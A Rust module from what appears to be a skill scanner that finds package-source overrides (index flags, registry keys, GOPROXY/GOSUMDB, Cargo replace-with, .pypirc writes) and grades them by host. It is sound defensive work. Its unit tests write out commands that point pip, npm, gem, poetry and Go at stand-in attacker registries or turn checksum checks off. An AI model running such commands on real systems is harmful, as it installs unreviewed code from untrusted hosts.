//! Package sources replaced or added (dependency confusion): index and
//! registry flags (`--extra-index-url`, `pip -i`, `--registry`, `gem
//! --source`), their environment variables and config keys
//! (`PIP_EXTRA_INDEX_URL`, `registry=` in `.npmrc`, `npmRegistryServer`,
//! `index-url =` in `pip.conf`), config commands (`npm config set
//! registry`, `pip config set global.index-url`, `poetry source add`,
//! `gem sources --add`), Cargo's `replace-with`, Go's `GOPROXY` and the
//! variables that turn its checksum database off, and writes of `.pypirc`.
//!
//! The host decides the severity: the ecosystem's own registry is no
//! finding, a vendor index that public instructions name (PyTorch's) is
//! `Low`, a public mirror, a test index or a private network's host (an
//! organisation's own index, `pypi.internal.example`, `10.0.0.5`)
//! `Medium`, any other host (a stranger's name, a public IP) `High`: a
//! package resolved there instead of the registry is code nobody
//! reviewed, served by whoever wrote the skill. A private network's index
//! is not refused: setting one up is what internal-package skills are
//! for, and an attacker outside that network does not control it.

use std::sync::LazyLock;

use super::hosts::{Host, classify, has_url, host_of};
use crate::scan::Severity;
use crate::scan::rule::{AnyCi, Lazy, compile, contains_ci, contains_ci_after, warned_against};

/// One source override on a line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Override {
    pub(super) rule_id: &'static str,
    pub(super) severity: Severity,
    /// Byte offset of the override on the line.
    pub(super) at: usize,
}

const URL: &str = r#"([a-z][a-z0-9+.-]*://[^\s'"`;),]+)"#;

/// Index flags followed by a URL. Group 1 is the flag, 2 the URL.
static FLAG: Lazy = LazyLock::new(|| {
    compile(&format!(
        r#"(?:^|[\s"'`(])(--extra-index-url|--index-url|--default-index|--index|--find-links|--registry|--source|-i|-f)(?:\s*=\s*|\s+)['"]?{URL}"#
    ))
});

/// Environment variables and config keys set to a URL. Group 1 is the key,
/// 2 the URL.
static KEY: Lazy = LazyLock::new(|| {
    compile(&format!(
        r#"(?:^|[^\w.-])((?:pip|uv)_(?:extra_)?index_url|pip_find_links|uv_default_index|uv_index|npm_config_registry|yarn_npm_registry_server|yarn_registry|extra-index-url|index-url|find-links|registry|npmregistryserver)['"]?\s*[=:]\s*['"]?{URL}"#
    ))
});

/// Config commands that set a source. The last group is the URL.
static CONFIG: LazyLock<[regex::bytes::Regex; 4]> = LazyLock::new(|| {
    [
        compile(&format!(
            r#"\b(?:npm|pnpm|yarn|bun)\s+config\s+set\s+(?:registry|npmregistryserver|@[\w.-]+:registry)(?:\s*=\s*|\s+)['"]?{URL}"#
        )),
        compile(&format!(r#"\bpip[0-9.]*\s+config\s+set\s+\S*index-url(?:\s*=\s*|\s+)['"]?{URL}"#)),
        compile(&format!(r#"\bpoetry\s+source\s+add\s+(?:-\S+\s+)*[\w.-]+\s+['"]?{URL}"#)),
        compile(&format!(r#"\bgem\s+sources?\s+(?:-a|--add)\s+['"]?{URL}"#)),
    ]
});

/// Go's source and checksum variables. Group 1 is the name, 2 the value.
static GO_ENV: Lazy = LazyLock::new(|| {
    compile(
        r#"\b(goproxy|gosumdb|gonosumdb|gonosumcheck|goinsecure|goflags|goprivate|gonoproxy)\s*=\s*['"]?([^\s'"`;]*)"#,
    )
});

/// Cargo replacing crates.io with another source. Group 1 is the source.
static REPLACE_WITH: Lazy = LazyLock::new(|| compile(r#"\breplace-with\s*=\s*['"]([^'"]+)"#));

/// Flags too generic to mean an index unless a package tool is on the line.
const TOOL_ONLY_FLAGS: &[&str] = &["-i", "-f", "--source", "--index", "--default-index"];

fn host_severity(url: &str) -> Option<Severity> {
    let host = host_of(url)?;
    let plain_http = url.get(..7).is_some_and(|s| s.eq_ignore_ascii_case("http://"));
    match classify(&host) {
        Host::Official if !plain_http => None,
        Host::Vendor if !plain_http => Some(Severity::Low),
        Host::Mirror if !plain_http => Some(Severity::Medium),
        Host::Internal => Some(Severity::Medium),
        _ => Some(Severity::High),
    }
}

fn text(b: &[u8]) -> &str {
    std::str::from_utf8(b).unwrap_or("")
}

/// Whether a Go module pattern list covers every public module of a code
/// host (`*`, `github.com`, `github.com/*`), not one organisation's.
fn covers_public_modules(value: &str) -> bool {
    value.split(',').any(|p| {
        let p = p.trim().trim_end_matches("/*").trim_end_matches('/');
        p == "*" || p.starts_with("*.") || (!p.contains('/') && classify(p) == Host::Code)
    })
}

/// Words one of which stands shortly before a URL that sets a source.
const BEFORE_URL: &[&str] = &["index", "registr", "find", "source", "proxy", " -i", " -f", "config"];
/// How far before a URL its key or flag may start (bytes).
const KEY_REACH: usize = 64;
/// Go variables set without a URL (`GOSUMDB=off`, `GOPROXY=goproxy.example`:
/// a proxy with no scheme is reached over https), as the text before `=`
/// ends.
const GO_NAMES: &[&str] =
    &["goproxy", "gosumdb", "gonosumdb", "gonosumcheck", "goinsecure", "goflags", "goprivate", "gonoproxy"];

/// The cheap test before the regexes: a URL with a source word shortly
/// before it, a Go variable set, or a file these rules read. Most lines
/// sent here (links, install commands) fail it.
fn may_override(line: &str) -> bool {
    let b = line.as_bytes();
    let url_key = memchr::memchr_iter(b':', b).filter(|&i| b[i + 1..].starts_with(b"//")).any(|i| {
        let window = &b[i.saturating_sub(KEY_REACH)..i];
        // One pass for the eight words (a search each cost 3,400
        // instructions on a typical body's two URL lines).
        static ANY_BEFORE_URL: AnyCi = AnyCi::new(BEFORE_URL);
        ANY_BEFORE_URL.any_in(window)
    });
    let go_set = || {
        memchr::memchr_iter(b'=', b).any(|i| {
            let name = b[..i].trim_ascii_end();
            GO_NAMES.iter().any(|g| {
                name.len() >= g.len() && name[name.len() - g.len()..].eq_ignore_ascii_case(g.as_bytes())
            })
        })
    };
    url_key || go_set() || contains_ci(b, b"replace-with") || contains_ci_after(b, b'.', b"pypirc")
}

/// The source overrides on `line`.
pub(super) fn overrides(line: &str) -> Vec<Override> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    if !may_override(line) {
        return out;
    }
    let mut push = |id: &'static str, severity: Option<Severity>, at: usize| {
        if let Some(severity) = severity {
            let severity = if warned_against(&line[..at]) { Severity::Low.min(severity) } else { severity };
            out.push(Override { rule_id: id, severity, at });
        }
    };
    for c in FLAG.captures_iter(b) {
        let (flag, url) =
            (c.get(1).map_or(&b""[..], |m| m.as_bytes()), c.get(2).map_or("", |m| text(m.as_bytes())));
        let at = c.get(1).map_or(0, |m| m.start());
        let flag = text(flag).to_ascii_lowercase();
        if TOOL_ONLY_FLAGS.contains(&flag.as_str()) {
            let before = &b[..at];
            let tool = ["pip", "uv ", "poetry", "pdm ", "gem ", "cargo"]
                .iter()
                .any(|t| contains_ci(before, t.as_bytes()));
            if !tool {
                continue;
            }
        }
        push("supply.index-override", host_severity(url), at);
    }
    for c in KEY.captures_iter(b) {
        let at = c.get(1).map_or(0, |m| m.start());
        push("supply.index-override", host_severity(c.get(2).map_or("", |m| text(m.as_bytes()))), at);
    }
    for re in CONFIG.iter() {
        for c in re.captures_iter(b) {
            let at = c.get(0).map_or(0, |m| m.start());
            push("supply.index-override", host_severity(c.get(1).map_or("", |m| text(m.as_bytes()))), at);
        }
    }
    for c in GO_ENV.captures_iter(b) {
        let at = c.get(1).map_or(0, |m| m.start());
        let name = text(c.get(1).map_or(&b""[..], |m| m.as_bytes())).to_ascii_lowercase();
        let value = text(c.get(2).map_or(&b""[..], |m| m.as_bytes()));
        match name.as_str() {
            "goproxy" => {
                let worst =
                    value
                        .split([',', '|'])
                        .filter(|p| !matches!(p.trim(), "" | "direct" | "off"))
                        .map(|p| {
                            if has_url(p) { host_severity(p) } else { host_severity(&format!("https://{p}")) }
                        })
                        .max()
                        .flatten();
                push("supply.index-override", worst, at);
            }
            "gosumdb" if !value.is_empty() && !value.starts_with("sum.golang.org") => {
                push("supply.checksum-off", Some(Severity::High), at)
            }
            "goinsecure" | "gonosumcheck" if !value.is_empty() && value != "0" => {
                push("supply.checksum-off", Some(Severity::High), at)
            }
            "goflags" if value.contains("-insecure") => push("supply.checksum-off", Some(Severity::High), at),
            "gonosumdb" | "goprivate" | "gonoproxy" if covers_public_modules(value) => {
                push("supply.checksum-off", Some(Severity::Medium), at)
            }
            _ => {}
        }
    }
    for c in REPLACE_WITH.captures_iter(b) {
        let source = text(c.get(1).map_or(&b""[..], |m| m.as_bytes()));
        if !matches!(source, "vendored-sources" | "vendor" | "crates-io") {
            push("supply.index-override", Some(Severity::High), c.get(0).map_or(0, |m| m.start()));
        }
    }
    if let Some(at) = line.find(".pypirc")
        && (line.contains('>') || line.contains("<<") || contains_ci(b, b"tee "))
    {
        push("supply.index-override", Some(Severity::Medium), at);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn worst(line: &str) -> Option<Severity> {
        overrides(line).iter().map(|o| o.severity).max()
    }

    #[test]
    fn grades_index_flags_by_host() {
        assert_eq!(worst("pip install -i https://pypi.org/simple requests"), None);
        assert_eq!(
            worst("pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch"),
            Some(Severity::Low)
        );
        assert_eq!(worst("pip install -i https://test.pypi.org/simple/ mypkg"), Some(Severity::Medium));
        assert_eq!(
            worst("pip install --index-url https://pypi.internal.corp/simple acme-utils"),
            Some(Severity::Medium)
        );
        assert_eq!(
            worst("pip install --index-url https://pypi-mirror.evil.example/simple acme"),
            Some(Severity::High)
        );
        assert_eq!(
            worst("pip install --extra-index-url=http://203.0.113.7:8080/simple acme"),
            Some(Severity::High)
        );
        assert_eq!(worst("npm install --registry https://npm.evil.example lodash"), Some(Severity::High));
        assert_eq!(worst("gem install rails --source https://gems.evil.example"), Some(Severity::High));
    }

    #[test]
    fn leaves_generic_short_flags_of_other_tools_alone() {
        assert_eq!(worst("curl -f https://example.com/health"), None);
        assert_eq!(worst("sed -i https://x.example/ file"), None);
        assert_eq!(worst("rsync --source https://x.example"), None);
    }

    #[test]
    fn finds_keys_config_commands_and_go_variables() {
        assert_eq!(
            worst("export PIP_EXTRA_INDEX_URL=https://pkgs.evil.example/simple"),
            Some(Severity::High)
        );
        assert_eq!(worst("echo \"registry=https://npm.evil.example/\" >> ~/.npmrc"), Some(Severity::High));
        assert_eq!(worst("@acme:registry=https://npm.pkg.github.com"), Some(Severity::Low));
        assert_eq!(worst("npmRegistryServer: \"https://r.evil.example\""), Some(Severity::High));
        assert_eq!(worst("npm config set registry https://r.evil.example/"), Some(Severity::High));
        assert_eq!(worst("yarn config set npmRegistryServer https://r.evil.example"), Some(Severity::High));
        assert_eq!(
            worst("pip config set global.index-url https://m.evil.example/simple"),
            Some(Severity::High)
        );
        assert_eq!(worst("index-url = https://m.evil.example/simple"), Some(Severity::High));
        assert_eq!(
            worst("poetry source add --priority=primary corp https://m.evil.example/simple"),
            Some(Severity::High)
        );
        assert_eq!(worst("go env -w GOPROXY=https://goproxy.evil.example,direct"), Some(Severity::High));
        assert_eq!(worst("GOPROXY=https://proxy.golang.org,direct"), None);
        assert_eq!(worst("export GOSUMDB=off"), Some(Severity::High));
        assert_eq!(worst("export GONOSUMDB=github.com"), Some(Severity::Medium));
        assert_eq!(worst("export GOPRIVATE=github.com/acme/*"), None);
        assert_eq!(worst("replace-with = \"mirror\""), Some(Severity::High));
        assert_eq!(worst("replace-with = \"vendored-sources\""), None);
        assert_eq!(worst("cat > ~/.pypirc <<EOF"), Some(Severity::Medium));
        assert_eq!(worst("registry-url: 'https://registry.npmjs.org'"), None);
    }

    #[test]
    fn the_cheap_test_passes_what_the_regexes_find() {
        let may = may_override;
        assert!(may("pip install --extra-index-url https://x.example/simple y"));
        assert!(may("GOSUMDB=off go install x.example/y@latest"));
        assert!(!may("See https://docs.example.com/guide for details."));
        assert!(!may("DATABASE_URL=postgres://localhost/orders sqlx migrate run"));
    }

    #[test]
    fn a_pypirc_written_by_a_redirect_a_heredoc_or_tee_is_an_override() {
        for line in ["cat cfg.ini > ~/.pypirc", "cat << EOF > ~/.pypirc", "cat cfg.ini | tee ~/.pypirc"] {
            assert_eq!(worst(line), Some(Severity::Medium), "{line}");
        }
        assert_eq!(worst("cat ~/.pypirc"), None);
    }

    #[test]
    fn a_warning_lowers_an_override() {
        assert_eq!(
            worst("Never use --extra-index-url https://pkgs.evil.example/simple"),
            Some(Severity::Low)
        );
    }
}

#[cfg(test)]
#[path = "overrides_tests.rs"]
mod sweep_tests;
